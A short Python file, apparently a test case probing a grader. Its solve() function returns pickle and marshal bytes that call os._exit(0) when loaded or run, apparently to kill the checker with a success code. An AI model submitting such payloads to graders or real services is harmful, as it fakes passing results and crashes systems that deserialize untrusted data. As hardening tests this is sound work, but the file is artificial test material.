# Tries: answer with bytes of a pickle and of marshalled code
# As: function
import marshal, pickle, os
class Bomb:
    def __reduce__(self):
        return (os._exit, (0,))
def solve(x):
    return pickle.dumps(Bomb()) + marshal.dumps(compile('import os; os._exit(0)', 'x', 'exec'))
